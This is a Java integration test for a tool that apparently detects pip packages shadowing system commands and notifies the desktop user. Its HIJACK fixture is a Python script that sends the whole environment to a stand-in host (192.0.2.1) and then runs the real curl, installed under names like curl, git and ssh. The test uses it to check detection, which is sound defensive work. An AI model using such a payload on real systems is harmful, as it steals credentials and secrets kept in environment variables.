package dev.auditpath.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.auditpath.notify.TestServer;
import dev.auditpath.testing.InvisibleDesktop;
import dev.auditpath.testing.Program;
import dev.auditpath.testing.RealVenv;
import dev.auditpath.testing.RunningAgent;
import dev.auditpath.testing.TestBus;
import dev.auditpath.testing.WheelFile;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.BooleanSupplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a person sees of the running agent, from pip's work to the screen. */
class DesktopProcessTest {
  private static final String HIJACK =
      """
      import os
      import subprocess
      import sys
      import urllib.request

      def main():
          urllib.request.urlopen("http://192.0.2.1/", data=repr(dict(os.environ)).encode())
          sys.exit(subprocess.call(["/usr/bin/curl"] + sys.argv[1:]))
      """;

  private static final String EXPLAINING =
      "java .*" + Program.file().getParent().getParent() + ".* explain ";

  @TempDir private Path home;
  private RealVenv venv;

  @BeforeEach
  void putAnEnvironmentFirst() throws IOException, InterruptedException {
    home = home.toRealPath();
    venv = RealVenv.create(home.resolve("project/.venv"));
    for (String file : List.of(".bashrc", ".profile")) {
      Files.writeString(home.resolve(file), "PATH=" + venv.bin() + ":$PATH\n");
    }
  }

  @Test
  void hijackInstalledByPip_isOnTheScreenUntilItIsUninstalledAndExplainedOnRequest()
      throws Exception {
    Path terminal = Path.of("/usr/bin/xterm");
    assumeTrue(Files.isExecutable(terminal), "needs xterm");
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/xdotool")), "needs xdotool");
    try (InvisibleDesktop desktop = InvisibleDesktop.start(home)) {
      desktop.startDunst("details");
      try (RunningAgent agent = start(desktop.variables())) {
        venv.install(hijack("curl"));
        desktop.awaitDisplayed(1);
        desktop.picture("pip-install.png");

        uninstall();
        desktop.awaitDisplayed(0);

        venv.install(hijack("curl"));
        desktop.awaitDisplayed(1);
        desktop.choose();
        desktop.awaitSome("/usr/bin/pgrep", "-f", EXPLAINING);
        String window =
            desktop.awaitSome("/usr/bin/xdotool", "search", "--onlyvisible", "--class", "xterm");
        desktop.await("", "/usr/bin/pgrep", "-f", EXPLAINING);
        desktop.picture("details.png");
        desktop.call("/usr/bin/xdotool", "windowfocus", "--sync", window, "key", "Return");
        desktop.await("", "/usr/bin/xdotool", "search", "--class", "xterm");

        assertThat(agent.status().out()).doesNotContain("waiting").doesNotContain("desktop");
      }
    }
  }

  @Test
  void noBus_isSaidByStatusAndTheFindingWaits() throws Exception {
    try (RunningAgent agent = start(Map.of())) {
      venv.install(hijack("curl"));
      awaitRaised("curl");

      assertThat(agent.status().out())
          .contains("waiting  2 findings to be told; audit-path --now lists all");
      assertThat(agent.statusJson().get("waiting").asInt()).isEqualTo(2);
      awaitOutput("desktop notifications: there is no desktop session");
      assertThat(agent.terminate()).isZero();
      assertThat(agent.statusJson().get("waiting").asInt()).isEqualTo(2);
    }
  }

  @Test
  void serverThatHangs_holdsUpNeitherTheAgentNorItsEndAndTheNextOneIsToldAll() throws Exception {
    assumeTrue(Files.isExecutable(TestBus.PROGRAM), "needs dbus-daemon");
    try (TestBus bus = TestBus.start(home)) {
      Map<String, String> variables = Map.of("DBUS_SESSION_BUS_ADDRESS", bus.address());
      try (TestServer mute = TestServer.start(bus).hangs();
          RunningAgent agent = start(variables)) {
        venv.install(hijack("curl"));
        await(mute::isAsked);
        venv.install(hijack("git"));
        awaitRaised("git");

        long began = System.nanoTime();
        assertThat(agent.terminate()).isZero();
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(5));
        assertThat(mute.shown()).isEmpty();
      }
      TestServer first = TestServer.start(bus, "actions", "body-markup");
      try (RunningAgent agent = start(variables)) {
        try (first) {
          await(() -> !first.shown().isEmpty());
          assertThat(first.shown().get(0).summary())
              .as("told by the next agent, as it begins")
              .isEqualTo("2 commands are not what they were");
          venv.install(hijack("ssh"));
          await(() -> first.shown().size() == 2);
        }
        try (TestServer plain = TestServer.start(bus)) {
          venv.install(hijack("wget"));
          await(() -> !plain.shown().isEmpty());
          assertThat(plain.shown().get(0).summary())
              .as("what the dead server showed, and what is new")
              .isEqualTo("4 commands are not what they were");
          assertThat(plain.shown().get(0).actions()).isEmpty();
        }
        assertThat(agent.status().out()).doesNotContain("waiting");
      }
    }
  }

  @Test
  void threeHundredScriptsAtOnce_areAtMostThreeNotifications() throws Exception {
    assumeTrue(Files.isExecutable(TestBus.PROGRAM), "needs dbus-daemon");
    WheelFile wheel = WheelFile.of("many", "1.0").file("many.py", "def main(): pass\n");
    List<String> commands = commands(300);
    commands.forEach(command -> wheel.consoleScript(command, "many:main"));
    Path file = wheel.write(home.resolve("wheels"));
    try (TestBus bus = TestBus.start(home);
        TestServer server = TestServer.start(bus, "actions");
        RunningAgent agent = start(Map.of("DBUS_SESSION_BUS_ADDRESS", bus.address()))) {
      venv.install(file);
      RunningAgent.awaitHistory(
          home, entries -> RunningAgent.of(entries, "raised", "").size() >= commands.size());
      Thread.sleep(3_000);

      assertThat(server.shown()).hasSizeBetween(1, 3);
      assertThat(agent.status().exit()).isZero();
    }
  }

  /** Commands of this system that are no scripts of a known publisher's. */
  private static List<String> commands(int most) throws IOException {
    try (Stream<Path> files = Files.list(Path.of("/usr/bin"))) {
      List<String> names =
          files
              .filter(Files::isRegularFile)
              .map(file -> file.getFileName().toString())
              .filter(name -> name.matches("[a-z][a-z-]+") && !name.startsWith("p"))
              .sorted()
              .limit(most)
              .toList();
      assertThat(names).hasSize(most);
      return names;
    }
  }

  private Path hijack(String command) throws IOException {
    return WheelFile.of("net-fetch-" + command, "1.0")
        .file("net_fetch_" + command + "/__init__.py", HIJACK)
        .consoleScript(command, "net_fetch_" + command + ":main")
        .write(home.resolve("wheels"));
  }

  private void uninstall() throws IOException, InterruptedException {
    Process process =
        new ProcessBuilder(
                venv.bin("python").toString(),
                "-I",
                "-m",
                "pip",
                "uninstall",
                "-y",
                "-q",
                "net-fetch-curl")
            .inheritIO()
            .start();
    assertThat(process.waitFor()).isZero();
  }

  private RunningAgent start(Map<String, String> variables)
      throws IOException, InterruptedException {
    List<String> launcher = new ArrayList<>(List.of("/usr/bin/env"));
    variables.forEach((name, value) -> launcher.add(name + "=" + value));
    RunningAgent agent = RunningAgent.startThrough(home, launcher);
    agent.awaitArmed();
    return agent;
  }

  private void awaitRaised(String command) throws IOException, InterruptedException {
    RunningAgent.awaitHistory(
        home, entries -> !RunningAgent.of(entries, "raised", command).isEmpty());
  }

  private void awaitOutput(String text) throws IOException, InterruptedException {
    Path out = home.resolve(".local/state/audit-path");
    for (int i = 0; i < 600; i++) {
      try (Stream<Path> logs = Files.list(out)) {
        for (Path log : logs.filter(file -> file.toString().contains("agent.log")).toList()) {
          if (Files.readString(log).contains(text)) {
            return;
          }
        }
      }
      Thread.sleep(100);
    }
    assertThat(out).as("says: " + text).doesNotExist();
  }

  private static void await(BooleanSupplier condition) throws InterruptedException {
    for (int i = 0; i < 3_000 && !condition.getAsBoolean(); i++) {
      Thread.sleep(20);
    }
    assertThat(condition.getAsBoolean()).isTrue();
  }
}
